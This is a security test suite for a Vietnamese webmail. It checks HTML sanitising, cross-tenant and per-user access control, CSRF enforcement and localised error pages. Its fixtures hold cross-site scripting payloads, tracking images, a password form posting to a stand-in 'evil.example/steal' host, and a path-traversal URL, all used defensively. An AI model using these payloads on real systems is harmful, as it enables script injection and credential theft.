"""Webmail security: hostile HTML never reaches the browser, no id reaches another world or
another person, forms need their CSRF token, and errors are Vietnamese pages."""
from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from mailserver.api import MailView
from tests.factories import make_world, minimal_pdf

from .conftest import folder_rows, login, send, snapshot

PDF_NAME = "Công văn số 12 về chuyển đổi số.pdf"
HOSTILE_HTML = """<html><head><title>t</title>
<style>body { background: url(http://evil.example/style.png) }</style>
<script>alert(1)</script></head><body>
<p>Xin chào đồng chí</p>
<img src=x onerror=alert(1)>
<a href="javascript:alert(2)">Bấm vào đây</a>
<a href="https://example.org/ok" onmouseover="alert(3)">liên kết</a>
<img src="http://evil.example/track.png" width="1" height="1">
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/steal" method="post"><input name="matkhau"><button>Gửi</button></form>
<div style="background-image: url(http://evil.example/css.png)">Nền</div>
<svg><script>alert(4)</script></svg>
<object data="http://evil.example/o.swf"></object>
</body></html>"""


def hostile_message(rt, world) -> int:
    send(rt, world["vanthu"], [world["lanhdao"]], subject="Thư có mã độc", body="Bản văn bản.\n", html=HOSTILE_HTML)
    return folder_rows(rt, world["lanhdao"])[0]["id"]


def test_hostile_html_is_cleaned_before_it_is_served(web):
    world = make_world(web.rt)
    item_id = hostile_message(web.rt, world)
    web.login(world["lanhdao"])

    page = web.get(f"/mail/message/{item_id}").get_data(as_text=True)
    assert page.count("<iframe") == 1
    assert re.search(rf'<iframe class="body-html" sandbox="allow-top-navigation-by-user-activation" '
                     rf'[^>]*src="/mail/message/{item_id}/body"', page)
    assert "Đã chặn nội dung từ bên ngoài" in page
    assert "evil.example" not in page and "alert(" not in page

    resp = web.get(f"/mail/message/{item_id}/body")
    assert resp.status_code == 200
    assert resp.headers["Content-Security-Policy"].startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    body = resp.get_data(as_text=True)
    assert "Xin chào đồng chí" in body
    # web links go through the webmail's link page (recorded, never leaving the sandbox)
    assert f'href="/mail/message/{item_id}/link?u=https://example.org/ok" target="_top"' in body
    for forbidden in ("<script", "alert(", "onerror", "onmouseover", "javascript:", "evil.example", "<iframe",
                      "<form", "<input", "<object", "<svg", "url("):
        assert forbidden not in body, forbidden


def test_subject_markup_is_shown_as_text(web):
    world = make_world(web.rt)
    send(web.rt, world["vanthu"], [world["lanhdao"]], subject="<script>alert(1)</script> Giấy mời")
    web.login(world["lanhdao"])
    listing = web.get("/mail/").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in listing
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Giấy mời" in listing


@pytest.mark.browser
def test_opening_hostile_mail_fires_nothing_and_fetches_nothing_outside(page, live_server, mail_world):
    item_id = hostile_message(live_server.runtime, mail_world)
    dialogs, requests = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    login(page, live_server.url, "lanhdao@cantho.gov.vn")
    page.goto(f"{live_server.url}/mail/message/{item_id}")
    expect(page.frame_locator("iframe.body-html").locator("body")).to_contain_text("Xin chào đồng chí")
    page.frame_locator("iframe.body-html").locator("text=liên kết").hover()
    page.wait_for_load_state("networkidle")
    assert dialogs == []
    assert [url for url in requests if "evil.example" in url] == []
    assert all(url.startswith(live_server.url) for url in requests)


def two_worlds(rt):
    """ts001 (ours) and ts002 (same addresses, same password) with mail, a draft and a folder in ts002."""
    ours, theirs = make_world(rt, "ts001"), make_world(rt, name="ts002")
    send(rt, ours["vanthu"], [ours["lanhdao"]], subject="Thư của ts001")
    send(rt, theirs["vanthu"], [theirs["lanhdao"]], subject="Bí mật của ts002",
         attachments=[(PDF_NAME, "application/pdf", minimal_pdf())])
    lead = theirs["lanhdao"]
    draft = rt.dispatcher.dispatch(theirs.sandbox_id, lead.address, "mail.save_draft", {
        "account_id": lead.id, "raw": rt.blobs.put(b"Subject: Nhap bi mat\r\nTo: vanthu@cantho.gov.vn\r\n\r\nNhap.\r\n")})
    folder = rt.dispatcher.dispatch(theirs.sandbox_id, lead.address, "mail.create_folder",
                                    {"account_id": lead.id, "name": "Riêng ts002"})
    return ours, theirs, folder_rows(rt, lead)[0]["id"], draft["item_id"], folder["mailbox_id"]


def test_ids_of_another_world_are_404_and_change_nothing(web):
    rt = web.rt
    ours, theirs, their_item, their_draft, their_folder = two_worlds(rt)
    colleague_item = folder_rows(rt, ours["lanhdao"])[0]["id"]  # lanhdao's own message
    send(rt, ours["lanhdao"], [ours["vanthu"]], subject="Thư riêng của văn thư")
    vanthu_item = folder_rows(rt, ours["vanthu"])[0]["id"]
    before_theirs, before_ours = snapshot(rt, theirs), snapshot(rt, ours)
    web.login(ours["lanhdao"], "ts001/lanhdao@cantho.gov.vn")
    referer = {"Referer": "http://localhost/mail/"}

    for url in [f"/mail/message/{their_item}", f"/mail/message/{their_item}/body", f"/mail/message/{their_item}/part/2",
                f"/mail/message/{vanthu_item}", f"/mail/message/{vanthu_item}/part/1", f"/mail/folder/{their_folder}",
                f"/mail/compose?reply={their_item}", f"/mail/compose?reply_all={their_item}",
                f"/mail/compose?forward={their_item}", f"/mail/compose?draft={their_draft}",
                f"/mail/compose?draft={colleague_item}", f"/mail/message/{their_draft}"]:
        resp = web.get(url, headers=referer)
        text = resp.get_data(as_text=True)
        assert resp.status_code == 404, url
        assert "Bí mật" not in text and "Nhap bi mat" not in text and '<html lang="vi">' in text, url

    own_inbox = folder_rows(rt, ours["lanhdao"])[0]["id"]
    for form in [{"item": their_item, "op": "read"}, {"item": their_item, "op": "unread"},
                 {"item": their_item, "op": "delete"}, {"item": vanthu_item, "op": "delete"},
                 {"item": their_item, "op": "move", "target": str(trash_id(rt, ours["lanhdao"]))},
                 {"item": own_inbox, "op": "move", "target": str(their_folder)}]:
        assert web.post("/mail/items", form, headers=referer).status_code == 404, form
    for url in [f"/mail/folder/{their_folder}/rename", f"/mail/folder/{their_folder}/delete"]:
        assert web.post(url, {"name": "Đổi"}, headers=referer).status_code == 404, url
    compose = {"to": "vanthu@cantho.gov.vn", "subject": "Lấy trộm", "body": "x"}
    for extra in [{"source_id": their_item, "keep": "2", "send": "1"}, {"draft_id": their_draft, "send": "1"},
                  {"draft_id": their_draft, "save_draft": "1"}, {"source_id": their_draft, "keep": "1", "save_draft": "1"}]:
        assert web.post("/mail/compose", {**compose, **extra}, headers=referer).status_code == 404, extra

    assert snapshot(rt, theirs) == before_theirs
    assert snapshot(rt, ours) == before_ours
    # the same kind of request on one's own mail works
    assert web.post("/mail/items", {"item": own_inbox, "op": "read"}, headers=referer).status_code == 302


def trash_id(rt, ref) -> int:
    with rt.db.read() as s:
        return MailView(s, ref.sandbox_id, ref.id).special("\\Trash").id


def test_post_without_csrf_token_is_refused_in_vietnamese_and_sends_nothing(web):
    world = make_world(web.rt)
    send(web.rt, world["vanthu"], [world["lanhdao"]], subject="Giữ nguyên")
    before = snapshot(web.rt, world)
    web.login(world["lanhdao"])
    resp = web.post("/mail/compose", {"to": "truongphong@cantho.gov.vn", "subject": "Giả mạo", "send": "1"}, csrf=False)
    text = resp.get_data(as_text=True)
    assert resp.status_code == 400
    assert '<html lang="vi">' in text and "Phiên làm việc đã hết hạn" in text
    item_id = folder_rows(web.rt, world["lanhdao"])[0]["id"]
    assert web.post("/mail/items", {"item": item_id, "op": "delete"}, csrf=False).status_code == 400
    assert web.post("/mail/folders", {"name": "Giả mạo"}, csrf=False).status_code == 400
    assert snapshot(web.rt, world) == before


def test_every_page_is_vietnamese_and_a_missing_message_is_a_vietnamese_404(web):
    world = make_world(web.rt)
    send(web.rt, world["vanthu"], [world["lanhdao"]], subject="Thư mẫu", attachments=[(PDF_NAME, "application/pdf", minimal_pdf())])
    item_id = folder_rows(web.rt, world["lanhdao"])[0]["id"]
    assert '<html lang="vi">' in web.get("/login").get_data(as_text=True)
    web.login(world["lanhdao"])
    for url in ["/mail/", "/mail/folders", "/mail/compose", f"/mail/message/{item_id}", f"/mail/message/{item_id}/body",
                f"/mail/compose?reply={item_id}", f"/mail/compose?forward={item_id}", "/mail/folder/999999"]:
        assert '<html lang="vi">' in web.get(url).get_data(as_text=True), url
    resp = web.get("/mail/message/999999")
    text = resp.get_data(as_text=True)
    assert resp.status_code == 404
    assert "Không tìm thấy thư." in text and "Traceback" not in text
    assert web.get(f"/mail/message/{item_id}/part/9").status_code == 404
    assert web.get(f"/mail/message/{item_id}/part/..%2F1").status_code == 404


def test_attachment_download_headers(web):
    world = make_world(web.rt)
    send(web.rt, world["vanthu"], [world["lanhdao"]], subject="Thư mẫu", attachments=[(PDF_NAME, "application/pdf", minimal_pdf())])
    item_id = folder_rows(web.rt, world["lanhdao"])[0]["id"]
    web.login(world["lanhdao"])
    resp = web.get(f"/mail/message/{item_id}/part/2")
    assert resp.status_code == 200 and resp.data == minimal_pdf()
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="Cong van so 12 ve chuyen doi so.pdf"; '
        "filename*=UTF-8''C%C3%B4ng%20v%C4%83n%20s%E1%BB%91%2012%20v%E1%BB%81%20chuy%E1%BB%83n%20%C4%91%E1%BB%95i%20s%E1%BB%91.pdf")
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in resp.headers["Content-Security-Policy"]


def test_webmail_needs_a_login(web):
    world = make_world(web.rt)
    send(web.rt, world["vanthu"], [world["lanhdao"]], subject="Thư mẫu")
    item_id = folder_rows(web.rt, world["lanhdao"])[0]["id"]
    for url in ["/mail/", f"/mail/message/{item_id}", f"/mail/message/{item_id}/body", "/mail/directory.json?q=a"]:
        resp = web.get(url)
        assert resp.status_code == 302 and "/login" in resp.headers["Location"], url
